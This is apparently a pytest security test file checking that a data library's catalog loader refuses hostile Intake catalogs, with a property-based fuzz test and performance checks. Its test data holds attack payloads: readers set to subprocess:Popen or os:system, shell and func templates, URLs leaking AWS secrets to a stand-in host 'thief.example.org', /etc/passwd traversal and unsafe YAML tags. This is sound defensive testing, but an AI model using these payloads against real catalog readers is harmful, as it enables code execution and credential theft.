"""Attack: an Intake catalog, which can name any function to import and call.

Promise: `scidata.open_catalog` admits a short list of readers with plain settings and refuses
the rest, in nested catalogs too; nothing that a catalog names is imported or called.
"""

import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from scidata.catalog import MAX_CATALOG_BYTES, open_catalog
from scidata.catalog.rules import MAX_ENTRIES, catalog_problems
from scidata.errors import InvalidError
from scidata.formats.intake import root_catalog, version_catalog
from scidata.formats.text import to_yaml
from scidata.storage import open_store
from tests.plainly import Document
from tests.records import facts_of, full_record
from tests.security.attack import run
from tests.versions import write_catalogued


@pytest.fixture
def store(staged: Path, tmp_path: Path) -> Path:
    """A store in a folder, with two versions and catalogs."""
    write_catalogued(open_store(tmp_path / "store"), staged)
    return tmp_path / "store"


def attack(part: str, **changes: object) -> Document:
    """A catalog that is sound but for one place."""
    catalog: Document = version_catalog(full_record(), facts_of(full_record()))
    name = "table__data" if part == "data" else "table"
    catalog[part][name] |= changes
    return catalog


def kwargs(part: str, **changes: object) -> Document:
    """A catalog that is sound but for one setting."""
    catalog: Document = version_catalog(full_record(), facts_of(full_record()))
    name = "table__data" if part == "data" else "table"
    catalog[part][name]["kwargs"] |= changes
    return catalog


FUNC = "intake.readers.convert:GenericFunc"
ATTACKS: dict[str, Document] = {
    "a function as reader": attack("entries", reader=FUNC),
    "any class as reader": attack("entries", reader="subprocess:Popen"),
    "any class as data": attack("data", datatype="subprocess:Popen"),
    "a reader of pickles": attack(
        "entries", reader="intake.readers.readers:SKLearnModelReader"
    ),
    "pandas HDF5, which unpickles": attack(
        "entries", reader="intake.readers.readers:PandasHDF5"
    ),
    "func in a setting": kwargs("entries", columns="{func(os:getcwd)}"),
    "func in a url": kwargs("data", url="{func(os:getcwd)}"),
    "import in a url": kwargs("data", url="{import(os:getcwd)}"),
    "env in a url": kwargs(
        "data", url="https://thief.example.org/{env(AWS_SECRET_ACCESS_KEY)}"
    ),
    "options in a url": kwargs(
        "data", url="https://thief.example.org/{STORAGE_OPTIONS[secret]}"
    ),
    "options to another server": kwargs("data", url="https://thief.example.org/x.parquet"),
    "an attribute of a template": kwargs("data", url="{CATALOG_DIR.__class__}/x"),
    "a path out of the catalog": kwargs("data", url="{CATALOG_DIR}/../../etc/passwd"),
    "a local file": kwargs("data", url="file:///etc/passwd", storage_options={}),
    "a chain of protocols": kwargs("data", url="{CATALOG_DIR}/x::file:///etc/passwd"),
    "a path out of the catalog, in disguise": kwargs(
        "data", url="{CATALOG_DIR}/%2e%2E/%2e./etc/passwd"
    ),
    "an unseen sign in a url": kwargs("data", url="{CATALOG_DIR}/x\u202egnp"),
    "the options in a setting": kwargs("entries", reference="{STORAGE_OPTIONS}"),
    "an environment in a setting": kwargs("entries", columns="{{env(HOME)}}"),
    "a shell in a url": kwargs("data", url="{{shell(touch hacked)}}"),
    "a shell below the catalog": kwargs("data", url="{CATALOG_DIR}/{{shell(touch hacked)}}"),
    "a template of Jinja": kwargs("data", url="{CATALOG_DIR}/{% for x in y %}"),
    "a reader of another driver": attack("entries", reader="tests.hostile:Driver"),
    "a reader by a list": attack("entries", reader=["subprocess:Popen"]),
    "a cached protocol": kwargs("data", url="simplecache::https://example.org/x.parquet"),
    "a folder as protocol": kwargs("data", url="dir::{CATALOG_DIR}/x"),
    "references": kwargs("data", url="reference::{CATALOG_DIR}/x"),
    "a callable among the options": kwargs(
        "data", storage_options={"anon": True, "get_client": "os:system"}
    ),
    "a key among the options": kwargs("data", storage_options={"key": "x", "secret": "y"}),
    "an endpoint with a password": kwargs(
        "data", storage_options={"anon": True, "endpoint_url": "https://me:pass@example.org"}
    ),
    "an endpoint that would see signed requests": kwargs(
        "data", storage_options={"endpoint_url": "https://thief.example.org"}
    ),
    "an endpoint that would see them, for files": kwargs(
        "entries", anon=False, endpoint_url="https://thief.example.org"
    ),
    "a list of urls": kwargs("data", url=["{CATALOG_DIR}/a", "/etc/passwd"]),
    "another protocol": kwargs("data", url="reference://", storage_options={}),
    "options of a file system": kwargs(
        "data", storage_options={"fo": "x", "target_protocol": "s3"}
    ),
    "options as text": kwargs("data", storage_options="{func(os:getcwd)}"),
    "cls in an entry": attack("entries", cls="subprocess:Popen"),
    "cls in data": attack("data", cls="subprocess:Popen"),
    "parameters of an entry": attack("entries", user_parameters={"x": {"cls": "os:system"}}),
    "a returned type": attack("entries", output_instance="os:system"),
    "metadata that Intake replaces": attack("entries", metadata={"a": ["{data(table)}"]}),
    "data that is not there": kwargs("entries", data="{data(other)}"),
    "data as text": kwargs("entries", data="{func(os:getcwd)}"),
    "a setting of another reader": kwargs("entries", engine="zarr"),
}


@pytest.mark.parametrize("document", ATTACKS.values(), ids=ATTACKS)
def test_a_catalog_that_could_do_more_than_read_is_refused(
    tmp_path: Path, document: Document
) -> None:
    path = tmp_path / "catalog.yaml"
    path.write_bytes(to_yaml(document))
    with pytest.raises(InvalidError, match="is refused") as caught:
        open_catalog(path)
    # Refused for what it says, not for how the file is written.
    assert {problem.code for problem in caught.value.problems} == {"catalog"}


def test_a_store_of_the_zarr_version_that_can_hold_pickles_does_not_open(
    store: Path, tmp_path: Path
) -> None:
    import zarr

    sound: Document = version_catalog(full_record(), facts_of(full_record()))
    del sound["entries"]["array"]["kwargs"]["zarr_format"]
    (problem,) = catalog_problems(sound)
    assert problem.path == "entries.array.kwargs"
    # With the format named, xarray does not look for the other one.
    shutil.rmtree(store / "tiny/v1.0.0/data/array.zarr")
    old = zarr.open_group(store / "tiny/v1.0.0/data/array.zarr", mode="w", zarr_format=2)
    old.create_array("wave", shape=(1,), dtype="int8")
    catalog = open_catalog(store / "tiny/catalog-1.0.0.yaml")
    with pytest.raises(FileNotFoundError):
        catalog["array"].read()


def test_the_sound_catalog_of_the_attacks_opens(tmp_path: Path) -> None:
    sound = version_catalog(full_record(), facts_of(full_record()))
    (tmp_path / "catalog.yaml").write_bytes(to_yaml(sound))
    assert set(open_catalog(tmp_path / "catalog.yaml")) == set(sound["aliases"])


def test_intake_alone_would_have_run_the_function(tmp_path: Path) -> None:
    """Which is why it is refused here; if Intake stops doing so, the rules may relax."""
    import intake

    document = kwargs("data", url="{func(os:getcwd)}")
    path = tmp_path / "catalog.yaml"
    path.write_text(yaml.safe_dump(document))
    assert callable(intake.from_yaml_file(str(path))["table"].data.url)


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['touch hacked']",
        "version: !!python/name:os.system",
        "version: 2\nversion: 2",
        "a: &a [1]\nb: *a",
        "[" * 5000,
        "version: 2",
        "version: '2'",
        "- 1",
        "",
        "sources: {}",
        "\x00",
    ],
)
def test_text_that_is_no_plain_catalog_is_refused(tmp_path: Path, text: str) -> None:
    (tmp_path / "catalog.yaml").write_text(text)
    with pytest.raises(InvalidError):
        open_catalog(tmp_path / "catalog.yaml")
    assert not list(tmp_path.glob("hacked"))


def test_an_attack_in_a_nested_catalog_is_refused_too(store: Path) -> None:
    index = open_catalog(store / "index.yaml")
    inner = yaml.safe_load((store / "tiny/catalog.yaml").read_text())
    inner["entries"]["table"]["reader"] = FUNC
    (store / "tiny/catalog.yaml").write_bytes(to_yaml(inner))
    with pytest.raises(InvalidError, match="GenericFunc"):
        index["tiny"].read()


def test_a_huge_catalog_is_refused(tmp_path: Path) -> None:
    (tmp_path / "big.yaml").write_bytes(b"#" * (MAX_CATALOG_BYTES + 1))
    with pytest.raises(InvalidError, match="larger than"):
        open_catalog(tmp_path / "big.yaml")


def test_an_alias_that_hides_data_is_refused() -> None:
    sound: Document = version_catalog(full_record(), facts_of(full_record()))
    sound["aliases"]["table__data"] = "table"
    assert [p.path for p in catalog_problems(sound)] == ["aliases.table__data"]


def test_a_text_that_intake_would_take_for_a_reference_is_refused_in_settings() -> None:
    document: Document = version_catalog(full_record(), facts_of(full_record()))
    name, entry = next(
        (n, e) for n, e in document["entries"].items() if e["reader"].endswith("PandasCSV")
    )
    entry["kwargs"]["names"] = [f"data({name})"]
    assert [p.path for p in catalog_problems(document)] == [f"entries.{name}.kwargs.names"]


def test_a_catalog_of_the_first_version_with_a_driver_is_refused(tmp_path: Path) -> None:
    (tmp_path / "catalog.yaml").write_text(
        "sources:\n  x:\n    driver: os.system\n    args: {urlpath: 'touch hacked'}\n"
        "plugins:\n  source:\n  - module: antigravity\n"
    )
    with pytest.raises(InvalidError, match="is refused"):
        open_catalog(tmp_path / "catalog.yaml")


def test_reading_every_entry_of_a_catalog_imports_nothing_new(store: Path) -> None:
    """Only what the list of readers names may be imported."""
    program = (
        "import sys, scidata\n"
        f"catalog = scidata.open_catalog({str(store / 'tiny/catalog-1.0.0.yaml')!r})\n"
        "[catalog[name] for name in catalog]\n"
        "print(*sorted({m.partition('.')[0] for m in sys.modules}))"
    )
    done = subprocess.run(
        [sys.executable, "-c", program], capture_output=True, text=True, check=True
    )
    assert not {"torch", "sklearn", "duckdb", "dask", "tests"} & set(done.stdout.split())


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=8),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=3),
    max_leaves=6,
)


@settings(max_examples=200)
@given(
    part=st.sampled_from(
        ["data", "entries", "aliases", "metadata", "user_parameters", "version"]
    ),
    value=JSON,
    inner=JSON,
)
def test_whatever_a_catalog_says_it_is_judged_and_never_crashes(
    part: str, value: object, inner: object
) -> None:
    document = version_catalog(full_record(), facts_of(full_record()))
    list(catalog_problems({**document, part: value}))
    for place in ("data", "entries"):
        for name in document[place]:
            item = document[place][name]
            for key in item:
                wrong = {**document[place], name: {**item, key: inner}}
                list(catalog_problems({**document, place: wrong}))
    list(catalog_problems(value))


def test_the_catalog_of_thousands_of_datasets_opens(tmp_path: Path) -> None:
    record = full_record()
    facts = facts_of(record)
    ids = [f"dataset-{number:04d}" for number in range(3000)]
    root = root_catalog(
        [
            (
                record.model_copy(update={"id": name}),
                facts.model_copy(update={"dataset": name}),
            )
            for name in ids
        ]
    )
    path = tmp_path / "index.yaml"
    path.write_bytes(to_yaml(root))
    assert path.stat().st_size > 2**20
    assert list(open_catalog(path)) == ids


def test_as_many_entries_as_are_admitted_are_judged_in_seconds() -> None:
    sound: Document = version_catalog(full_record(), facts_of(full_record()))
    aliases = {f"a{number}": "table" for number in range(MAX_ENTRIES)}
    for part in ("data", "entries"):
        item = sound[part]["table__data" if part == "data" else "table"]
        sound[part] |= {f"{part}{number}": item for number in range(MAX_ENTRIES // 2)}
    began = time.monotonic()
    assert list(catalog_problems({**sound, "aliases": aliases})) == []
    assert time.monotonic() - began < 10


if __name__ == "__main__":
    run(__file__)
